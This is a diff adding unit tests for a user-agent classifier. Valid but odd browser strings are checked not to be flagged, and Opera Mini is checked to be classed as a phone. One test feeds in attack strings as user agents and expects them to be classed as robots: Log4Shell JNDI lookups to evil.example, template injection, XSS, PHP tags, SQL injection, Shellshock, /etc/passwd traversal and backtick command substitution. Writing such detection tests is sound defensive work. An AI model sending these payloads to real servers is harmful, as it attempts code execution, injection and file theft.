@@ -130,6 +130,72 @@ describe("agent", () => {
       expect(of(agent), agent).toBe("ROBOT");
   });
 
+  test("[D113, found 61] blanks, attacks and versions that are no number are robots", () => {
+    const [system, engine] = [
+      "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
+      "AppleWebKit/537.36 (KHTML, like Gecko)",
+    ];
+    const versions = ["W.X.Y.Z", "99.x.y.z", "[version]", "%VERSION%", "1##.0.0.0", "", "*", "?"];
+    for (const agent of [
+      ...versions.map((version) => `${system} ${engine} Chrome/${version} Safari/537.36`),
+      `${system} Gecko/xx Firefox/126.0`,
+      "Mozilla/5.0 (X11; Linux x86_64; rv:xx.0) Gecko/20100101 Firefox/126.0",
+      "Mozilla/5.0 (Windows NT x.y; rv:10.0) Gecko/20100101 Firefox/10.0",
+      system,
+      "Mozilla/5.0 ${jndi:ldap://evil.example/a}",
+      `${system} {{7*7}}`,
+      `${system} ${engine} {{ua}} Chrome/126.0.0.0 Safari/537.36`,
+      "%USERAGENT%",
+      "Mozilla/5.0 %USERAGENT%",
+      `${agents.chromeWindows} %{User-Agent}i`,
+      `${agents.chromeWindows} <script>alert(1)</script>`,
+      `${agents.chromeWindows} <?php phpinfo(); ?>`,
+      `${agents.chromeWindows} <%= 7 * 7 %>`,
+      `${agents.chromeWindows} \${\${lower:j}ndi:rmi://evil.example}`,
+      `${agents.chromeWindows}' OR 1=1--`,
+      `${agents.chromeWindows}" and sleep(5)#`,
+      `${agents.chromeWindows} union all select null`,
+      `${agents.chromeWindows} () { :;}; echo`,
+      `${agents.chromeWindows} ../../etc/passwd`,
+      `${agents.chromeWindows} \`id\``,
+      agents.chromeWindows.replace("Chrome", "Chro\tme"),
+      agents.chromeWindows.replace("126.0.0.0", "126.0.0.0\u0001"),
+    ])
+      expect(of(agent), agent).toBe("ROBOT");
+  });
+
+  test("[D113] what people's agents hold that is odd stays theirs", () => {
+    const phone = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X)";
+    const webKit = "AppleWebKit/605.1.15 (KHTML, like Gecko)";
+    const trident = "Trident/7.0; .NET4.0E; InfoPath.3";
+    for (const agent of [
+      `${phone} ${webKit} Mobile/15E148 [Pinterest/iOS]`,
+      `${phone} ${webKit} Mobile/15E148 [LinkedInApp]/9.29.8962`,
+      `${phone} ${webKit}`.replace("iPhone; CPU", "iPad; CPU"),
+      `${phone} ${webKit} Mobile/15E148 [FBAN/FBIOS;FBAV/500.0;FBCR/AT&T;FBDM/{density=2.0}]`,
+      `${phone} ${webKit} Mobile/15E148 MicroMessenger/8.0.49(0x1800312b) Language/zh_CN`,
+      "Mozilla/5.0 (X11; Linux x86_64; rv:4.0b8pre) Gecko/20101128 Firefox/4.0b8pre",
+      `Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/538.15+ (KHTML, like Gecko) Safari/538.15+`,
+      "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)",
+      `Mozilla/5.0 (Windows NT 6.1; WOW64; ${trident}; rv:11.0) like Gecko`,
+      "Mozilla/5.0 (Nintendo 3DS; U; ; en) Version/1.7412.EU",
+      "Mozilla/5.0 (PLAYSTATION 3; 2.00)",
+      `Mozilla/5.0 (Macintosh; Intel Mac OS X 10_9_3) ${webKit} Version/7.0.3 Safari/7046A194A`,
+      `Mozilla/5.0 (Linux; Android 9; Tab 7" O'Neil) ${webKit} Chrome/126.0.0.0 Safari/537.36`,
+    ])
+      expect(of(agent), agent).not.toBe("ROBOT");
+  });
+
+  test("Opera Mini is a phone's browser", () => {
+    for (const system of ["Android", "J2ME/MIDP", "BlackBerry"])
+      expect(
+        of(`Opera/9.80 (${system}; Opera Mini/36.2/191.256; U; en) Presto/2.12.423 Version/12.16`),
+      ).toMatch(/^PHONE/);
+    expect(
+      of("Opera/9.80 (Android 4.4.2; Linux; Opera Tablet/36.2/119.132; U; id) Presto/2.12.423"),
+    ).toMatch(/^TABLET ANDROID/);
+  });
+
   test("of 10,000 people's agents at most one is taken for a robot", () => {
     const folder = dirname(createRequire(import.meta.url).resolve("user-agents"));
     const people = (
